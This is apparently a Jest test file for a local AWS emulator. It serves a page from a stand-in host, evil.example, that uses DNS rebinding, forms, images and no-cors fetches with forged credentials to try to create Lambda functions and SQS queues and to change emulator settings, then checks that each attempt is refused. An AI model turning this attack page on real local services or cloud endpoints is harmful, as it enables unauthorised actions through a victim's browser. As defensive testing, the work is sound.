import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { GetFunctionCommand, LambdaClient, ListFunctionsCommand } from '@aws-sdk/client-lambda';
import { ListQueuesCommand, SQSClient } from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { zipSync } from 'fflate';
import { portOf } from '../../scripts/stack/demo-upstreams/services.ts';
import { findChromium, visitInChromium } from './chromium.ts';
import { awsOptions, call, deployment, environment, latelyReceived } from './stack.ts';

jest.setTimeout(60_000);

const chromium = findChromium();
const cloud = environment.local?.endpoint ?? '';
const cloudPort = environment.local?.port ?? 0;
const accountId = environment.local?.accountId ?? '';
const lambda = new LambdaClient(awsOptions);

/** Names of an attacker that all resolve to this machine, as with DNS rebinding. */
const evilName = 'evil.example';
const rebinding = ['--host-resolver-rules=MAP *.example 127.0.0.1'];

/** A credential that needs no header, and so no preflight: as for a presigned URL, with a publicly known key. */
const credential = (service: string): string =>
  new URLSearchParams({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `${accountId}/20260101/us-east-1/${service}/aws4_request`,
    'X-Amz-Date': '20260101T000000Z',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': '0'.repeat(64),
  }).toString();

const queueUrl = (origin: string, name: string): string =>
  `${origin}/?Action=CreateQueue&QueueName=${name}&Version=2012-11-05&${credential('sqs')}`;

interface Attempt {
  readonly url: string;
  readonly init?: Readonly<Record<string, unknown>>;
}

const simple = (body: unknown): NonNullable<Attempt['init']> => ({
  method: 'POST',
  mode: 'no-cors',
  headers: { 'content-type': 'text/plain' },
  body: JSON.stringify(body),
});

const attempts = (roleArn: string): readonly Attempt[] => {
  const code = Buffer.from(zipSync({ 'index.js': Buffer.from('exports.handler = () => 1') }));
  const made = {
    FunctionName: 'planted',
    Runtime: 'nodejs22.x',
    Handler: 'index.handler',
    Role: roleArn,
    Code: { ZipFile: code.toString('base64') },
  };
  const functions = `${cloud}/2015-03-31/functions`;
  const authorization = `AWS4-HMAC-SHA256 Credential=${accountId}/20260101/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=0`;
  const demo = `http://127.0.0.1:${portOf('status', cloudPort)}`;
  return [
    { url: `${functions}?${credential('lambda')}`, init: simple(made) },
    {
      url: functions,
      init: { method: 'POST', headers: { authorization }, body: JSON.stringify(made) },
    },
    { url: queueUrl(cloud, 'by-fetch'), init: { method: 'POST', mode: 'no-cors' } },
    { url: queueUrl(`http://rebound.example:${cloudPort}`, 'by-rebinding') },
    { url: `${demo}/__misbehaviour`, init: simple({ status: 503 }) },
    { url: `${cloud}/_ministack/config`, init: simple({}) },
    { url: `${deployment.baseUrl}/api/v1/status?from=page`, init: { mode: 'no-cors' } },
  ];
};

/** Sends each attempt: one to a queue by an image, one by a form. Loaded when all have ended. */
const page = (roleArn: string): string => `<!doctype html>
<iframe name="target"></iframe>
<form target="target" method="post" action="${queueUrl(cloud, 'by-form').replaceAll('&', '&amp;')}"></form>
<img src="${queueUrl(cloud, 'by-image').replaceAll('&', '&amp;')}">
<img src="/until-done">
<script>
document.forms[0].submit();
const attempts = ${JSON.stringify(attempts(roleArn))};
Promise.all(attempts.map(async ({ url, init }) => {
  try {
    const response = await fetch(url, init);
    return { url, type: response.type, text: await response.text() };
  } catch (error) {
    return { url, type: 'error', text: String(error) };
  }
})).then((seen) => fetch('/done', { method: 'POST', body: JSON.stringify(seen) }));
</script>`;

interface Seen {
  readonly url: string;
  /** `opaque`: the request was sent, but the page cannot read the response. */
  readonly type: string;
  readonly text: string;
}

let attacker: Server;
let attackerUrl = '';
let seen: readonly Seen[] = [];

const startAttacker = async (html: string): Promise<void> => {
  let endLoading = (): void => undefined;
  attacker = createServer((request, response) => {
    if (request.url === '/until-done') {
      endLoading = () => void response.end();
      return;
    }
    if (request.url !== '/done') {
      return void response.setHeader('content-type', 'text/html').end(html);
    }
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      seen = JSON.parse(Buffer.concat(chunks).toString()) as Seen[];
      response.end();
      endLoading();
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://${evilName}:${(attacker.address() as AddressInfo).port}/`;
};

const functionNames = async (): Promise<ReadonlyArray<string | undefined>> => {
  const { Functions: functions = [] } = await lambda.send(new ListFunctionsCommand({}));
  return functions.map(({ FunctionName }) => FunctionName).toSorted();
};

if (chromium === undefined) {
  it.skip('withstands a web page: there is no chromium, chromium-browser or google-chrome to open it', () =>
    undefined);
} else {
  describe('a page of another site in the browser of this machine', () => {
    let functionsBefore: ReadonlyArray<string | undefined> = [];

    beforeAll(async () => {
      functionsBefore = await functionNames();
      const { Configuration: { Role: roleArn = '' } = {} } = await lambda.send(
        new GetFunctionCommand({ FunctionName: deployment.functionName }),
      );
      await startAttacker(page(roleArn));
      await visitInChromium(chromium, attackerUrl, rebinding);
    });

    afterAll(() => {
      attacker.closeAllConnections();
      attacker.close();
    });

    it('had its say: each attempt came to an end', () => {
      expect(seen).toHaveLength(attempts('').length);
    });

    it('makes no function', async () => {
      expect(await functionNames()).toEqual(functionsBefore);
    });

    it('makes no queue, neither by fetch, image, form nor a name that leads to this machine', async () => {
      const { QueueUrls: queues = [] } = await new SQSClient(awsOptions).send(
        new ListQueuesCommand({}),
      );
      expect(queues.filter((url) => /\/by-\w+$/.test(url))).toEqual([]);
    });

    it('makes no demo service fail', async () => {
      expect((await call('GET', '/api/v1/status')).status).toBe(200);
    });

    it('reads nothing of the emulator', () => {
      const readable = seen.filter(({ type, text }) => type !== 'error' && text !== '');
      expect(readable).toEqual([]);
    });

    it('calls the deployed API, as pages of an application do', async () => {
      const urls = (await latelyReceived('status')).map(({ url }) => url);
      expect(urls).toContain('/api/v1/status?from=page');
    });

    it('is refused by name if its own name resolves to the emulator', async () => {
      const url = `http://${evilName}:${cloudPort}/_ministack/health`;
      expect(await visitInChromium(chromium, url, rebinding)).toContain(
        'Refused: the Host is not this machine',
      );
    });
  });
}
